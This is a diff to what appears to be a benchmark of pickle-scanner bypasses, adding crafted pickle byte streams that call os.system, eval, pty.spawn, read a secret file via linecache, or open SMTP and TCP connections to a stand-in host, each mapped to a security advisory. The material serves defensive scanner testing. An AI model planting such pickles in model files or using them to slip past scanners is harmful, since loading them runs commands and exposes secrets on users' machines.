@@ -8,7 +8,7 @@ from __future__ import annotations
 import struct
 
 from bench.scanner_attacks.stream import Call, Name, Raw, binary, call, push, stream, text
-from bench.scanner_attacks.techniques import COMMAND, SOURCE, Family
+from bench.scanner_attacks.techniques import COMMAND, SECRET, SOURCE, Family
 
 FAMILY = Family("pickle forms")
 SYSTEM = call("os", "system", COMMAND)
@@ -97,6 +97,7 @@ _CODES = {
     "value-left-on-stack": text("w", 1) + OLD + b".",
     "memo-redefined": b"\x80\x02Vos\nq\0Vsystem\nq\x0000" + OLD + b".",
     "put-large-index": b"K\x01p999999\n0" + OLD + b".",
+    "put-index-beyond-long": b"K\x01p99999999999999999999\n0" + OLD + b".",
     "appends-nothing-to-number": b"K\x01(e0" + OLD + b".",
     "getattr-chain": stream(
         Call(
@@ -111,6 +112,68 @@ _CODES = {
     ),
     "methodcaller-chain": stream(
         Call(call("operator", "methodcaller", "system", COMMAND), (call("pydoc", "locate", "os"),))
+    ),
+    "methodcaller-chain-in-c": stream(
+        Call(call("_operator", "methodcaller", "system", COMMAND), (call("pydoc", "locate", "os"),))
+    ),
+    "attrgetter-chain-in-c": stream(
+        Call(
+            Call(
+                call("_operator", "attrgetter", "system"), (call("builtins", "__import__", "os"),)
+            ),
+            (COMMAND,),
+        )
+    ),
+    "eval-under-getattr": stream(
+        Call(
+            call("builtins", "getattr", call("builtins", "__import__", "builtins"), "eval"),
+            (SOURCE,),
+        )
+    ),
+    "eval-under-map-and-getattr": stream(
+        call(
+            "builtins",
+            "list",
+            call(
+                "builtins",
+                "map",
+                call("builtins", "getattr", call("types", "ModuleType", "builtins"), "eval"),
+                [SOURCE],
+            ),
+        )
+    ),
+    "read-into-state": stream(
+        Call(
+            Name("difflib", "Differ"),
+            (),
+            call(
+                "builtins",
+                "dict",
+                call("builtins", "enumerate", call("linecache", "getlines", SECRET)),
+            ),
+        )
+    ),
+    "called-by-obj-and-dropped": (
+        b"\x80\x04("
+        + push(Name("smtplib", "SMTP"))
+        + push("bench.invalid")
+        + b"o0"
+        + text("weights")
+        + b"."
+    ),
+    "spawned-by-obj": (
+        b"\x80\x04(cpty\nspawn\n" + b"](" + text("echo") + text("muniment-bench") + b"eo."
+    ),
+    "call-made-to-look-used": stream(
+        Call(Name("socketserver", "TCPServer"), (("", 0), None), {"weights": 1})
+    ),
+    "call-with-empty-state": stream(Call(Name("signal", "signal"), (2, None), {})),
+    "call-after-honest-import": (
+        b"\x80\x04"
+        + push(Name("torch._utils", "_rebuild_tensor_v2"))
+        + b"0"
+        + push(call("smtplib", "SMTP", "bench.invalid", 25))
+        + b"."
     ),
     "partial": stream(Call(call("functools", "partial", Name("os", "system"), COMMAND))),
     "reduce-function": stream(
@@ -154,7 +217,18 @@ _ADVISORIES = {
     "appends-nothing-to-number": ("cpython 135573",),
     "getattr-chain": ("GHSA-q5qq-mvfm-j35x", "CVE-2026-22609"),
     "attrgetter-chain": ("picklescan malicious12",),
-    "methodcaller-chain": ("GHSA-84r2-jw7c-4r5q",),
+    "methodcaller-chain": ("GHSA-84r2-jw7c-4r5q", "CVE-2025-71373"),
+    "methodcaller-chain-in-c": ("GHSA-955r-x9j8-7rhh",),
+    "attrgetter-chain-in-c": ("GHSA-46h3-79wf-xr6c",),
+    "eval-under-getattr": ("GHSA-9m3x-qqw2-h32h",),
+    "eval-under-map-and-getattr": ("GHSA-9m3x-qqw2-h32h",),
+    "read-into-state": ("GHSA-r48f-3986-4f9c",),
+    "called-by-obj-and-dropped": ("GHSA-mxhj-88fx-4pcv",),
+    "spawned-by-obj": ("GHSA-hgrh-qx5j-jfwx",),
+    "call-made-to-look-used": ("GHSA-mhc9-48gj-9gp3",),
+    "call-with-empty-state": ("GHSA-mhc9-48gj-9gp3",),
+    "call-after-honest-import": ("GHSA-cffv-grgg-g429",),
+    "put-index-beyond-long": ("cpython 144410",),
     "frame-hides-payload": ("cpython 154848",),
     "payload-before-bad-frame": ("cpython 128853",),
 }
